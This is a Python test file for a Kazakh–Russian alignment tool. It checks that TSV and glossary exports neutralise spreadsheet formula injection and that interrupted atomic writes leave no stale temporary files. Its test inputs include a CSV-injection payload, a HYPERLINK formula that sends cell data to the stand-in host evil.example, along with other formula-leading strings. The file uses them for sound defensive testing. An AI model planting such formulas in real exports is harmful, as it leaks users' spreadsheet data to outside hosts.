"""Tabular outputs a spreadsheet may open neutralize formulas (TSV as CSV and XLSX do), and a
writer killed mid-file leaves no hidden temporary file after the next run."""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import time

import pytest
from workspaces import PAIR

from align.exports import export, select_units, store_units
from align.store import Entry, Workspace
from tmx_out.base import Unit, atomic_write, tsv_cell, tsv_value
from tmx_out.glossary_files import write_omegat, write_tsv
from tmx_out.tabular import TsvWriter

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Тараптар")', "+7 701 000 00 00", "-1+1", "@SUM(A1:A9)",
           "'ескертпе", "\uff1dцитата"]


@pytest.mark.parametrize("text", HOSTILE)
def test_tsv_cells_are_neutralized_and_read_back_exactly(text):
    cell = tsv_cell(text)
    assert cell.startswith("'") and tsv_value(cell) == text


def _hostile_workspace(path) -> Workspace:
    ws = Workspace(path)
    store_units(ws, PAIR, [Unit(kk=f"{t} Тараптар келісті.", ru=f"{t} Стороны согласились.") for t in HOSTILE])
    return ws


def test_export_tsv_and_run_pair_tsv_start_no_cell_with_a_formula(tmp_path):
    from align.cli.align_cmds import write_pair_files
    with _hostile_workspace(tmp_path / "w.db") as ws:
        export(ws, "tsv", tmp_path / "x.tsv", status="all")
        assert [(u.kk, u.ru) for u in TsvWriter().read(tmp_path / "x.tsv")] == \
            [(u.kk, u.ru) for u in select_units(ws, "all")]
        write_pair_files(ws, PAIR, tmp_path)
    for name in ("x.tsv", f"{PAIR}.tsv"):
        rows = (tmp_path / name).read_text(encoding="utf-8").splitlines()[1:]
        cells = [c for row in rows for c in row.split("\t")]
        assert len(rows) == len(HOSTILE)
        assert not any(c.startswith(("=", "+", "-", "@", "\uff1d")) for c in cells), name


def _entry(kk: str, ru: str) -> Entry:
    return Entry(id=1, kk_key=kk, ru_key=ru, kk=kk, ru=ru, kk_pos="", ru_pos="", freq=2, kk_freq=2, ru_freq=2,
                 dice=1.0, llr=-3.5, score=1.0, kk_forms={kk: 2}, ru_forms={ru: 2}, acts=["a"], examples=[],
                 status="auto", note="=1+1", built_at=None, created_at="", changed_at="")


def test_glossary_tsv_is_neutralized_and_the_omegat_glossary_stays_raw(tmp_path):
    entries = [_entry("=уәкілетті орган", "-уполномоченный орган")]
    write_tsv(entries, tmp_path / "g.tsv")
    row = (tmp_path / "g.tsv").read_text(encoding="utf-8").splitlines()[1].split("\t")
    assert row[0] == "'=уәкілетті орган" and row[1] == "'-уполномоченный орган" and row[7] == "'-3.5"
    # OmegaT reads its glossary as plain text, not as a spreadsheet: an apostrophe would
    # become part of the term (README: "Which outputs are raw")
    write_omegat(entries, tmp_path / "g.txt")
    assert (tmp_path / "g.txt").read_text(encoding="utf-8").splitlines()[1].startswith("=уәкілетті орган\t")


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_stale_part_files_are_removed_by_the_next_write(tmp_path):
    target = tmp_path / "seeds.tsv"
    stale = tmp_path / f".seeds.tsv.{_dead_pid()}.k3j_x9.part"
    old_style = tmp_path / ".seeds.tsv.ab_cd12x.part"          # written by an older saikes
    live = tmp_path / f".seeds.tsv.{os.getppid()}.zz.part"        # a writer still running
    other = tmp_path / f".other.tsv.{_dead_pid()}.zz.part"       # another target's: not ours to judge
    for p in (stale, old_style, live, other):
        p.write_text("half a file")
    os.utime(old_style, (time.time() - 3600, time.time() - 3600))
    with atomic_write(target, "w", "utf-8") as fh:
        fh.write("kk\tru\n")
    assert target.read_text(encoding="utf-8") == "kk\tru\n"
    assert not stale.exists() and not old_style.exists()
    assert live.exists() and other.exists()


WRITER = """
import sys, time
from tmx_out.base import atomic_write
with atomic_write(sys.argv[1], "w", "utf-8") as fh:
    fh.write("half")
    fh.flush()
    print("writing", flush=True)
    time.sleep(60)
"""


def test_a_writer_killed_mid_file_leaves_nothing_after_the_next_run(tmp_path):
    target = tmp_path / "out.tsv"
    env = dict(os.environ, PYTHONPATH=str(__import__("conftest").ROOT))
    child = subprocess.Popen([sys.executable, "-c", WRITER, str(target)], stdout=subprocess.PIPE, text=True, env=env)
    assert child.stdout.readline().strip() == "writing"
    os.kill(child.pid, signal.SIGKILL)
    child.wait()
    assert not target.exists() and len(list(tmp_path.glob(".out.tsv.*.part"))) == 1
    with atomic_write(target, "w", "utf-8") as fh:
        fh.write("whole\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.tsv"]
